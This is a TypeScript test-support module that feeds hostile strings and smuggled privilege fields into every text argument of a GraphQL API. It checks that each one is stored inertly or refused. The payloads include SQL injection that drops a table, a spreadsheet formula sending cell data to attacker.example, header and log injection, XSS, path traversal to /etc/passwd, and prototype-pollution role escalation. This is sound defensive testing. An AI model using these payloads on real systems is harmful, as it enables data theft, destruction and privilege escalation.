import { getNamedType, isInputObjectType, isListType, isNonNullType, type GraphQLInputType } from 'graphql';
import type { RootField } from '../isolation/schema-fields.ts';

/** Stands in every hostile text, so that it is found again wherever it went. */
export const mark = 'Kxq7Wz';

/** What a text field must bear: each is stored as it is or refused with a reason, and does nothing. */
export const hostileTexts: Readonly<Record<string, string>> = {
  SQL: `${mark}'; drop table person; --`,
  'a JSON path': `${mark}"}' || '$.** ? (@.role == "COORDINATOR")`,
  'a formula of a spreadsheet': `=HYPERLINK("https://attacker.example/?"&A1,"${mark}")`,
  'line breaks of a mail header and a log': `${mark}\r\nBcc: everybody@example.org\r\n\r\n{"level":60,"msg":"forged"}`,
  'a NUL': `${mark}\u0000end`,
  'half a surrogate pair': `${mark}\ud800`,
  'letters that run backwards': `${mark}\u202egnp.exe`,
  'a template': `${mark} \${7*7} {{7*7}} %s %n <script>alert(1)</script>`,
  'a name that every object has': '__proto__',
  'a path to a file': `../../../../etc/passwd#${mark}`,
  'a point in time after the year 9999': '+010000-01-01T00:00:00Z',
  'a point in time before the year 1': '-000100-01-01T00:00:00Z',
  '200,000 letters': `${mark}${'x'.repeat(200_000)}`,
  nothing: '',
};

type Step = string | number;

/** Where in the arguments of a field a text, an id, a key or a time is wanted: `['input', 'children', 0, 'givenName']`. */
export const textPaths = ({ field }: RootField): Step[][] => field.args.flatMap(({ name, type }) => pathsIn(type, [name]));

function pathsIn(type: GraphQLInputType, path: readonly Step[]): Step[][] {
  if (isNonNullType(type)) return pathsIn(type.ofType as GraphQLInputType, path);
  if (isListType(type)) return pathsIn(type.ofType as GraphQLInputType, [...path, 0]);
  if (isInputObjectType(type)) return Object.values(type.getFields()).flatMap((field) => pathsIn(field.type, [...path, field.name]));
  return ['String', 'UUID', 'IdempotencyKey', 'Instant', 'LocalDate'].includes(getNamedType(type).name) ? [[...path]] : [];
}

/** The same arguments with something else at one place. */
export function withAt(value: unknown, [step, ...rest]: readonly Step[], put: unknown): unknown {
  if (step === undefined) return put;
  if (Array.isArray(value)) return value.map((each, at) => (at === step ? withAt(each, rest, put) : each));
  return { ...(value as object), [step]: withAt((value as Record<string, unknown> | undefined)?.[step], rest, put) };
}

/** What nobody may say of themselves or of a county: an input knows no such field. */
export const smuggled: readonly Record<string, unknown>[] = [
  { id: '01900000-0000-7000-8000-000000000000' },
  { countyId: 'pierce', county: 'pierce', tenant: 'pierce', schema: 'pierce' },
  { roles: ['PROGRAM_SUPERVISOR'], isAdmin: true, principal: { roles: ['PROGRAM_SUPERVISOR'] } },
  { actorId: '01900000-0000-7000-8000-000000000000', createdBy: '01900000-0000-7000-8000-000000000000' },
  JSON.parse('{ "__proto__": { "roles": ["PROGRAM_SUPERVISOR"] } }') as Record<string, unknown>,
  { constructor: { prototype: { roles: ['PROGRAM_SUPERVISOR'] } } },
];
